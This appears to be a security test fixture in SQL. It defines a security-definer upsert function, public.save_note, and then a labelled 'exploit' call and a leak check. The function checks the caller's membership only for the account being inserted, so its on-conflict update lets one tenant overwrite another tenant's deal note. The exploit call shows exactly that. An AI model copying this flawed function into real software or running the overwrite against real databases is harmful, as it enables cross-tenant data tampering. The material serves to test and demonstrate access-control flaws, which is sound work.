-- channel: upsert
-- object: public.save_note
-- says: The upsert function became a definer and checks only the row that would be inserted.
create or replace function public.save_note(
    p_note uuid, p_account uuid, p_deal uuid, p_body text
)
returns uuid
language plpgsql security definer
set search_path = ''
as $$
begin
    if not exists (
        select
        from public.memberships as m
        where m.account_id = p_account
            and m.user_id = auth.uid()
            and m.role <> 'reader'
            and m.status = 'active'
            and (m.valid_until is null or m.valid_until > now())
    ) then
        raise exception 'not allowed' using errcode = '42501';
    end if;
    insert into public.deal_notes as n (id, account_id, deal_id, body)
    values (p_note, p_account, p_deal, p_body)
    on conflict (id) do update set body = excluded.body;
    return p_note;
end
$$;
-- exploit as adam
select public.save_note(
    'e2000000-0000-4000-8000-00000000000b', :org_a,
    'd2000000-0000-4000-8000-00000000000a', 'Overwritten by Atlas'
);
-- leaks when exists (
--     select from public.deal_notes where account_id = :org_b and body = 'Overwritten by Atlas'
-- )
